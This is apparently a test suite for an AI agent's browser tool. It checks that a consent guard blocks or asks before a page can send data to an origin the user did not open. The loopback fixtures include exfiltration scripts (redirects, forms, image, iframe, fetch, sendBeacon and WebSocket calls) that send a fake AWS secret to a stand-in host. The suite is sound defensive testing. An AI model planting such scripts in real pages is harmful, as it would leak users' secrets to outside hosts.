import assert from 'node:assert/strict';
import * as http from 'node:http';
import * as net from 'node:net';
import type { Settings } from '../../../extension/core/settings/schema';
import type { ApprovalRequest, ToolContext } from '../../../extension/core/tools/types';
import { browserCtx, browserDriver, recordingConnect, scriptedResolver, type Driver } from './helpers';
import { waitUntil } from '../../fixtures/eventually';

/** A loopback server that records what it was asked; `pages` answers by path. */
interface Server {
  origin: string;
  port: number;
  requests: string[];
  close(): Promise<void>;
}

async function serve(pages: (path: string, other: string) => { status?: number; body?: string; location?: string }, other = () => ''): Promise<Server> {
  const requests: string[] = [];
  const srv = http.createServer((req, res) => {
    requests.push(req.url ?? '');
    const p = pages(req.url ?? '/', other());
    res.writeHead(p.status ?? 200, { 'content-type': 'text/html; charset=utf-8', ...(p.location ? { location: p.location } : {}) });
    res.end(p.body ?? '');
  });
  srv.on('upgrade', (req, socket) => {
    requests.push(`UPGRADE ${req.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
  const port = (srv.address() as net.AddressInfo).port;
  return { origin: `http://127.0.0.1:${port}`, port, requests, close: () => new Promise((r) => srv.close(() => r())) };
}

const html = (title: string, body: string) => `<!doctype html><title>${title}</title><body>${body}</body>`;

const SECRET = 'd=AWS_SECRET%3Dwj4lrXUtnFEMI';

/** How many requests to `origin` a tool result says the guard blocked (0 when it names none). */
function blockedAt(content: string, origin: string): number {
  const m = new RegExp(`${origin.replace(/[.]/g, '\\.')} \\((\\d+) requests?\\)`).exec(content);
  return m ? Number(m[1]) : 0;
}

/**
 * M2: data leaves only where the user agreed. Site A (a loopback page the model opens) tries to
 * send what it was given to oracle B (a second loopback origin standing in for any host) through a
 * script navigation, a redirect, a form and a link; with no auto-approve and a declining approver,
 * B receives nothing.
 */
describe('browser: the first visit to each origin asks (M2)', function () {
  this.timeout(60_000);
  let a: Server;
  let b: Server;
  let d: Driver;
  let n = 0;
  const contacted: string[] = [];

  before(async () => {
    b = await serve(() => ({ body: html('Oracle', '<p>oracle page</p>') }));
    a = await serve(
      (path, other) => {
        const u = new URL(path, 'http://x');
        if (u.pathname === '/fwd') return { body: html('Forwarder', `<script>location='${other}/exfil'+location.search</script>`) };
        if (u.pathname === '/redir') return { status: 302, location: `${other}/redirected${u.search}` };
        if (u.pathname === '/form') return { body: html('Form', `<form action="${other}/post" method="post"><input id="q" name="q"></form>`) };
        if (u.pathname === '/leak') {
          const q = `'+location.search.slice(1)+'`;
          return {
            body: html(
              'Leak',
              `<p>leaky page</p><script>
                const d = location.search.slice(1);
                const img = new Image(); img.src = '${other}/img?' + d; document.body.appendChild(img);
                const f = document.createElement('iframe'); f.src = '${other}/iframe?' + d; document.body.appendChild(f);
                fetch('${other}/fetch?' + d, { mode: 'no-cors' }).catch(() => {});
                navigator.sendBeacon('${other}/beacon?' + d, 'x');
                try { new WebSocket('${other.replace('http', 'ws')}/ws?' + d); } catch (e) {}
                fetch('/same?' + d).catch(() => {});
              </script>`.replace(q, q),
            ),
          };
        }
        if (u.pathname === '/link') return { body: html('Link', `<a id="out" href="${other}/clicked">out</a><a id="again" href="${other}/again">again</a>`) };
        return { body: html('A', '<p>site a</p>') };
      },
      () => b.origin,
    );
    d = browserDriver({ resolver: scriptedResolver({}), connect: recordingConnect(contacted) }, () => browserCtx());
  });
  after(async () => {
    await d.manager.closeAll();
    await a.close();
    await b.close();
  });

  /** A fresh session whose approver records each question and answers with `decide`. */
  function session(o: { decide?: (r: ApprovalRequest) => 'allow' | 'deny'; typed?: string[]; settings?: Partial<Settings> } = {}) {
    const asked: ApprovalRequest[] = [];
    const ctx: ToolContext = {
      ...browserCtx({ session: `consent-${++n}`, userTexts: o.typed, settings: o.settings }),
      approver: { approve: async (r) => (asked.push(r), (o.decide ?? (() => 'deny'))(r)) },
    };
    return { ctx, asked, call: (name: string, args: unknown) => d.call(name, args, ctx) };
  }

  const typedA = () => [`please open ${a.origin.slice('http://'.length)}/fwd`];

  it('M2: B11 — a loopback page forwarding location.search to another origin: the approver is asked with the full url and declines, and the other origin receives nothing', async () => {
    const s = session({ typed: typedA() });
    const r = await s.call('browser_navigate', { url: `${a.origin}/fwd?${SECRET}` });
    assert.equal(r.error?.code, 'denied', r.content);
    assert.match(r.content, new RegExp(`the page tried to go to ${b.origin} and the user declined, so it was not opened`));
    assert.equal(s.asked.length, 1, 'the typed site A did not ask; the page going to B did');
    assert.equal(s.asked[0].tool, 'browser_navigate');
    assert.equal(s.asked[0].permission, 'network');
    assert.ok(s.asked[0].summary.includes(`${b.origin}/exfil?${SECRET}`), s.asked[0].summary);
    assert.deepEqual(b.requests, [], 'the oracle received nothing');
    assert.ok(a.requests.includes(`/fwd?${SECRET}`));
  });

  it('M2 (residual): a typed page\'s images, frames, fetches, beacons and WebSockets to a site the session has not opened are blocked, and the result says so', async () => {
    const s = session({ typed: [`please open ${a.origin.slice('http://'.length)}/leak`] });
    const seenB = b.requests.length;
    const r = await s.call('browser_navigate', { url: `${a.origin}/leak?${SECRET}` });
    assert.equal(r.ok, true, r.content);
    // The guard decides each of the page's five requests to B (image, frame, fetch, beacon, WebSocket)
    // and tells its count with the next tool result: once all five are counted as blocked, none is left to reach B.
    let blocked = blockedAt(r.content, b.origin);
    await waitUntil(async () => (blocked += blockedAt((await s.call('browser_snapshot', {})).content, b.origin)) >= 5, 'the guard to decide the five requests to B');
    assert.equal(blocked, 5);
    assert.deepEqual(b.requests.slice(seenB), [], 'the other origin received nothing');
    assert.ok(a.requests.includes(`/same?${SECRET}`), 'the page may still reach its own site');
    assert.match(r.content, new RegExp(`The page's own requests to other sites were blocked .*${b.origin.replace(/[.]/g, '\\.')} \\(\\d+ requests?\\)`));
    assert.equal(s.asked.length, 0, 'blocked, not asked');
  });

  it('M2 (residual): once the user opened the other site, the page may reach it', async () => {
    const s = session({ typed: [`open ${a.origin.slice('http://'.length)}/leak and ${b.origin.slice('http://'.length)}/`] });
    await s.call('browser_navigate', { url: `${b.origin}/` });
    const seenB = b.requests.length;
    const r = await s.call('browser_navigate', { url: `${a.origin}/leak?${SECRET}` });
    assert.equal(r.ok, true, r.content);
    await waitUntil(() => b.requests.slice(seenB).some((p) => p.startsWith('/img?')), "the page's image request to reach B");
    assert.doesNotMatch(r.content, /requests to other sites were blocked/);
    // The tests below expect the oracle untouched by anything but themselves: wait until each of the
    // page's five requests has reached B, so none is still on its way, before clearing the oracle's log.
    const kinds = ['/img?', '/iframe?', '/fetch?', '/beacon?', 'UPGRADE /ws?'];
    await waitUntil(() => kinds.every((k) => b.requests.slice(seenB).some((p) => p.startsWith(k))), "the page's five requests to reach B");
    await s.call('browser_navigate', { url: `${a.origin}/` });
    b.requests.splice(0);
  });

  it('M2: opening a loopback url the user did not type asks first, naming the query; declined, nothing is fetched', async () => {
    const s = session();
    const seen = a.requests.length;
    const r = await s.call('browser_navigate', { url: `${a.origin}/fwd?${SECRET}` });
    assert.equal(r.error?.code, 'denied');
    assert.match(s.asked[0].summary, new RegExp(`^open ${a.origin}/fwd\\?${SECRET} in the browser \\(first visit to ${a.origin} this session`));
    assert.equal(a.requests.length, seen);
  });

  it('M2: a plain-http redirect to a new origin is asked too (in the proxy); declined, the other origin receives nothing', async () => {
    const s = session({ typed: typedA() });
    const r = await s.call('browser_navigate', { url: `${a.origin}/redir?${SECRET}` });
    assert.equal(r.error?.code, 'denied', r.content);
    assert.match(r.content, new RegExp(`the page tried to go to ${b.origin} and the user declined`));
    assert.ok(s.asked.some((q) => q.summary.includes(`${b.origin}/redirected?${SECRET}`)), JSON.stringify(s.asked));
    assert.deepEqual(b.requests, []);
  });

  it('M2: browser_type with submit posting to a new origin asks; declined, nothing is posted', async () => {
    const s = session({ typed: typedA() });
    assert.equal((await s.call('browser_navigate', { url: `${a.origin}/form` })).ok, true);
    const r = await s.call('browser_type', { selector: '#q', text: 'AWS_SECRET=wj4lrXUtnFEMI', submit: true });
    assert.equal(r.error?.code, 'denied', r.content);
    assert.equal(s.asked.length, 1);
    assert.equal(s.asked[0].tool, 'browser_type');
    assert.deepEqual(b.requests, []);
    assert.match((await s.call('browser_snapshot', {})).content, new RegExp(`URL: ${a.origin}/form`));
  });

  it('M2: browser_click to a new origin asks once per origin; allowed, the origin stays approved for the session', async () => {
    const s = session({ typed: typedA(), decide: () => 'allow' });
    await s.call('browser_navigate', { url: `${a.origin}/link` });
    const r = await s.call('browser_click', { selector: '#out' });
    assert.equal(r.ok, true, r.content);
    assert.equal(s.asked.length, 1);
    assert.equal(s.asked[0].tool, 'browser_click');
    assert.match(s.asked[0].summary, new RegExp(`^let the page go to ${b.origin}/clicked `));
    await s.call('browser_navigate', { url: `${a.origin}/link` });
    assert.equal((await s.call('browser_click', { selector: '#again' })).ok, true);
    assert.equal(s.asked.length, 1, 'the second visit to the approved origin did not ask');
    assert.deepEqual(b.requests.slice(-2), ['/clicked', '/again']);
    b.requests.length = 0;
  });

  it('M2: auto-approving network (or the tool) asks nothing', async () => {
    const s = session({ settings: { 'approvals.autoApprove': ['network'] } });
    const r = await s.call('browser_navigate', { url: `${a.origin}/fwd?${SECRET}` });
    assert.equal(r.ok, true, r.content);
    assert.deepEqual(s.asked, []);
    assert.deepEqual(b.requests, [`/exfil?${SECRET}`]);
    b.requests.length = 0;
    const t = session({ settings: { 'approvals.autoApprove': ['browser_navigate'] } });
    assert.equal((await t.call('browser_navigate', { url: `${a.origin}/` })).ok, true);
    assert.deepEqual(t.asked, []);
  });

  it('I3: a navigation the page starts between tool calls is refused without asking, and reported once by the next call, not as its outcome', async () => {
    const s = session({ typed: typedA() });
    assert.equal((await s.call('browser_navigate', { url: `${a.origin}/` })).ok, true);
    const sess = (await d.manager.existing(s.ctx.session.id))!;
    await (await sess.page()).evaluate(`location.href = '${b.origin}/late?${SECRET}'`);
    // Wait for the route to record the refusal and Chromium to show its error page (conditions, not durations).
    const page = await sess.page();
    while (!sess.blocks.during(0).length || !page.url().startsWith('chrome-error:')) await new Promise((r) => setImmediate(r));
    const snap = await s.call('browser_snapshot', {});
    assert.equal(snap.ok, true, snap.content);
    assert.match(snap.content, new RegExp(`Between tool calls the page tried to open ${b.origin}/late\\?${SECRET}; it was not opened: the page tried to go to ${b.origin} while no browser tool was running`));
    assert.deepEqual(s.asked, []);
    assert.deepEqual(b.requests, []);
    assert.doesNotMatch((await s.call('browser_snapshot', {})).content, /Between tool calls/, 'reported once');
  });

  it('a closed port is reported as a connection failure (failed, "could not connect"), not as a policy refusal', async () => {
    const srv = net.createServer();
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
    const port = (srv.address() as net.AddressInfo).port;
    await new Promise((r) => srv.close(r));
    const s = session({ typed: [`127.0.0.1:${port}`] });
    const r = await s.call('browser_navigate', { url: `http://127.0.0.1:${port}/x` });
    assert.equal(r.ok, false);
    assert.equal(r.error?.code, 'failed', r.content);
    assert.match(r.content, new RegExp(`could not connect to 127\\.0\\.0\\.1:${port} \\(connection refused\\)`));
    assert.doesNotMatch(r.content, /policy/);
  });
});
